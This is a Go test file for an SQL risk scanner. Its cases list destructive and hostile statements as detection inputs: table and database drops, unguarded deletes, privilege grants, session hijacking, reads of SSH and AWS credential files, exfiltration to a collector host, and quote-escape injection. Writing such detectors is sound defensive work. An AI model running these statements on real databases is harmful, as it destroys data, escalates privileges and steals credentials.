package sqlscan

import (
	"slices"
	"testing"
)

func TestKinds(t *testing.T) {
	cases := []struct {
		want      string // a kind every spelling must report
		spellings []string
	}{
		{Drop, []string{
			"DROP TABLE users", "drop table users;", "  Drop\tTable IF EXISTS \"users\" CASCADE",
			"/* cleanup */ DROP DATABASE prod", "-- note\nDROP SCHEMA app", "DROP VIEW v", "drop index i",
			"SELECT 1; DROP TABLE t", "select 'x;y'; drop table t", "/* a /* nested */ b */ DROP TABLE t",
		}},
		{Truncate, []string{"TRUNCATE t", "truncate table logs;", "Truncate\nTABLE a, b", "-- x\n truncate t"}},
		{DeleteNoWhere, []string{
			"DELETE FROM t", "delete from t;", "DELETE FROM t -- WHERE id=1", "DELETE FROM t /* WHERE id=1 */",
			"DELETE FROM t # WHERE id=1", "delete from \"where\"", "DELETE FROM t RETURNING 'WHERE'",
			"WITH x AS (SELECT 1) DELETE FROM t",
			// A MERGE that deletes the rows it matches (G14).
			"MERGE INTO users u USING x ON u.id=x.id WHEN MATCHED THEN DELETE",
			"merge into t using s on t.id = s.id when not matched by source then delete",
		}},
		{UpdateNoWhere, []string{
			"UPDATE t SET a=1", "update accounts set balance = 0;", "UPDATE t SET a='WHERE'",
			"UPDATE t SET a=1 -- WHERE id=2", "update t set a = $$ where $$",
		}},
		{AlterDrop, []string{
			"ALTER TABLE t DROP COLUMN c", "alter table t drop constraint fk", "ALTER TABLE t\n  DROP  INDEX i",
			"ALTER TABLE logs TRUNCATE PARTITION p2024", "ALTER TABLE events DELETE WHERE 1",
		}},
		// Functions that remove what the database holds (G14).
		{Drop, []string{
			"SELECT lo_unlink(1)", "select lo_unlink(oid) from pg_largeobject_metadata", "SELECT lo_truncate(fd, 0)",
			"SELECT drop_chunks('conditions', INTERVAL '3 months')", "SELECT master_drop_all_shards('e'::regclass, 'public', 'e')",
		}},
		{Stacked, []string{"SELECT 1; SELECT 2", "BEGIN; DELETE FROM t WHERE id=1; COMMIT", "select 1;;select 2"}},
		// Neither data nor schema: who may do what, the server, others'
		// sessions, a guard of the session.
		{Admin, []string{
			"SELECT pg_terminate_backend(pid) FROM pg_stat_activity", "select pg_cancel_backend(42)", "SELECT pg_catalog.pg_reload_conf()",
			"ALTER SYSTEM SET fsync = off", "alter system reset all", "GRANT ALL ON ALL TABLES IN SCHEMA public TO public",
			"grant pg_read_server_files to app", "REVOKE SELECT ON t FROM bob", "CREATE ROLE admin SUPERUSER LOGIN",
			"ALTER USER app WITH PASSWORD 'x'", "create user 'u'@'%' identified by 'p'", "ALTER DATABASE app SET default_transaction_read_only = off",
			"SET GLOBAL read_only = 0", "set persist max_connections = 1", "SET @@global.sql_log_bin = 0", "SET ROLE postgres",
			"SET SESSION AUTHORIZATION postgres", "SET TRANSACTION READ WRITE", "set session characteristics as transaction read write",
			"SET session_replication_role = replica", "SET LOCAL row_security = off", "SELECT set_config('role', 'postgres', false)",
			"select set_config('transaction_read_only', 'off', true)", "KILL 42", "kill query 7", "SHUTDOWN",
			"SET PASSWORD FOR app = 'x'", "SELECT 1; SELECT pg_terminate_backend(7)",
			// A cloud warehouse's compute, made, sized, started or
			// stopped: Firebolt's engines, Snowflake's warehouses,
			// compute pools and resource monitors.
			"CREATE ENGINE backfill WITH TYPE = XL NODES = 32", "ALTER ENGINE analytics SET NODES = 16", "STOP ENGINE analytics",
			"start engine analytics", "CREATE OR REPLACE WAREHOUSE wh WITH WAREHOUSE_SIZE = 'X6LARGE'",
			"ALTER WAREHOUSE wh RESUME", "CREATE COMPUTE POOL gpu_pool MIN_NODES = 1 MAX_NODES = 8 INSTANCE_FAMILY = GPU_NV_M",
			"ALTER RESOURCE MONITOR limiter SET CREDIT_QUOTA = 100000",
		}},
		{Remote, []string{
			"SELECT dblink_exec('host=prod', 'DROP TABLE users')", "select * from dblink('dbname=x', 'select 1') as t(a int)",
			"SELECT dblink_connect('c', 'host=10.0.0.5')",
			"SELECT * FROM url('https://collector.example/upload', 'CSV', 'a String') SETTINGS http_method='POST'",
			"INSERT INTO FUNCTION s3('https://b.s3.amazonaws.com/x.csv') SELECT * FROM t", "select * from remoteSecure('db2:9440', app.t)",
			"SELECT * FROM OPENQUERY(prod, 'DELETE FROM users')",
		}},
		// A procedure's SQL is the database's, which nobody reads first.
		{Procedure, []string{"CALL purge_all()", "call app.purge(1);", "SELECT 1; CALL p()", "CALL apoc.load.json('file:///home/u/.ssh/id_rsa')", "DO $$ BEGIN CALL p(); END $$"}},
		// SQL text a function runs is a statement of its own.
		{Dynamic, []string{
			"SELECT query_to_xml('delete from users returning 1', true, true, '')",
			"select Query_To_Xml($$DROP TABLE t$$, true, true, '')", "SELECT query_to_xmlschema(E'update t set a = 1', true, true, '')",
			"SELECT * FROM ts_stat('DELETE FROM docs RETURNING tsv')", "SELECT query_to_xml('SELECT ' || col, true, true, '') FROM t",
			"SELECT query_to_xml(q, true, true, '') FROM saved", "SELECT eval('DELETE FROM t')", "FROM query('INSERT INTO t VALUES (1)')",
		}},
		{FileAccess, []string{"SELECT * FROM file(concat('/home/u/', x), 'LineAsString')"}},
	}
	for _, c := range cases {
		for _, sql := range c.spellings {
			if r := Scan(sql); !r.Has(c.want) {
				t.Errorf("%q: got %v, want %s", sql, r.Kinds(), c.want)
			}
		}
	}
}

func TestNotRisky(t *testing.T) {
	risky := []string{Drop, Truncate, DeleteNoWhere, UpdateNoWhere, AlterDrop, Stacked, Admin, Remote, Procedure, Dynamic, FileAccess}
	safe := []string{
		"SELECT 1", "select * from t where a = 'DROP TABLE x'", "SELECT 'a;b'",
		"DELETE FROM t WHERE id = 3", "delete from t\nwhere id in (1,2);", "UPDATE t SET a=1 WHERE b=2",
		"-- DROP TABLE t\nSELECT 1", "/* DROP TABLE t; */ SELECT 1", "SELECT $$DROP TABLE t; $$",
		"SELECT $tag$ ; DROP TABLE t $tag$", "ALTER TABLE t ADD COLUMN c int", "INSERT INTO t VALUES ('truncate')",
		"SELECT 1;", "  ;  ", "",
		// Settings of the session alone, a dump's header, a string.
		"SET search_path = app", "SET LOCAL statement_timeout = '5s'", "SELECT pg_catalog.set_config('search_path', '', false)",
		"SET TRANSACTION READ ONLY", "SELECT 'GRANT ALL TO public'", "SELECT 'pg_terminate_backend(1)'", "CREATE TABLE grants (a int)",
		"ALTER TABLE roles ADD COLUMN c int", "SELECT * FROM pg_stat_activity",
		// A function handed SQL that only reads; a table or routine named
		// like one of those functions; a procedure that only describes.
		"SELECT query_to_xml('SELECT * FROM users', true, true, '')", "SELECT * FROM query('SELECT 42')",
		"INSERT INTO url (a, b) VALUES (1, 2)", "CREATE TABLE file (id int)", "CREATE FUNCTION query(x int) RETURNS int AS 'select 1' LANGUAGE sql",
		"CALL db.labels()", "CALL { MATCH (n) RETURN n }", "SELECT url, file FROM links",
		"SELECT count() FROM file('data/events.parquet', Parquet)",
		// MySQL's arithmetic TRUNCATE, a column named like a dropping
		// function, a MERGE that only updates, a mutation with a WHERE.
		"SELECT truncate(price, 2) FROM items", "SELECT drop_reason FROM orders", "SELECT lo_get(1)",
		"MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = s.a",
		"ALTER TABLE events DELETE WHERE ts < now()",
		// A table's storage engine, and a table named for compute.
		"CREATE TABLE t (id int) ENGINE = InnoDB", "CREATE TABLE e (id UInt64) ENGINE = MergeTree ORDER BY id",
		"ALTER TABLE t ENGINE = InnoDB", "CREATE TABLE warehouse (id int)", "SELECT * FROM information_schema.engines",
	}
	for _, sql := range safe {
		r := Scan(sql)
		for _, k := range risky {
			if r.Has(k) {
				t.Errorf("%q: got %v, want none of the risky kinds", sql, r.Kinds())
			}
		}
	}
}

// TestDialects checks that text read differently by MySQL and PostgreSQL
// is reported by either reading.
func TestDialects(t *testing.T) {
	cases := map[string]string{
		// In PostgreSQL the string ends at \' and the DROP runs.
		`SELECT 'a\'; DROP TABLE t; --'`: Drop,
		// In MySQL the string ends at the second quote and the DROP runs.
		`SELECT 'a\''; DROP TABLE t; --'`: Drop,
		// An unterminated quote hides nothing before it.
		"DROP TABLE t; SELECT 'oops": Drop,
	}
	for sql, want := range cases {
		if r := Scan(sql); !r.Has(want) {
			t.Errorf("%q: got %v, want %s", sql, r.Kinds(), want)
		}
	}
}

// TestFiles checks that the files a table function reads are reported,
// for the caller to judge as reads of those paths.
func TestFiles(t *testing.T) {
	r := Scan("SELECT * FROM file('/home/u/.aws/credentials', 'LineAsString') JOIN file($$data/a.csv$$) USING (x)")
	if got := r.Files(); !slices.Equal(got, []string{"/home/u/.aws/credentials", "data/a.csv"}) {
		t.Errorf("got %v", got)
	}
}

func TestStatements(t *testing.T) {
	text := "SELECT 1; -- c\nDROP TABLE t;"
	r := Scan(text)
	if len(r.Statements) != 2 || !r.Stacked {
		t.Fatalf("got %+v", r)
	}
	st := r.Statements[1]
	if st.Verb != "drop" || st.Kind != Drop || text[st.Start:st.End] != "DROP TABLE t" {
		t.Errorf("got %+v (%q)", st, text[st.Start:st.End])
	}
	if got := r.Kinds(); !slices.Equal(got, []string{Other, Drop, Stacked, StackedWrite}) {
		t.Errorf("kinds: got %v", got)
	}
}

func FuzzScan(f *testing.F) {
	for _, s := range []string{"DROP TABLE t", "SELECT '", "/* ", "$a$ x", "DELETE FROM t -- x"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		r := Scan(s)
		for _, st := range r.Statements {
			if st.Start < 0 || st.End > len(s) || st.Start > st.End {
				t.Fatalf("bad offsets %+v for %q", st, s)
			}
		}
	})
}

// TestFileReaders checks that the files DuckDB's reader functions read
// are reported as file()'s are, and that one named by no literal is a
// file access.
func TestFileReaders(t *testing.T) {
	r := Scan("SELECT * FROM read_text('/home/u/.netrc') UNION ALL SELECT * FROM read_csv_auto('data/b.csv')")
	if got := r.Files(); !slices.Equal(got, []string{"/home/u/.netrc", "data/b.csv"}) {
		t.Errorf("got %v", got)
	}
	if r := Scan("SELECT * FROM read_blob(getenv('HOME') || '/.netrc')"); !r.Has(FileAccess) {
		t.Errorf("a reader of a computed path: got %v, want %s", r.Kinds(), FileAccess)
	}
}
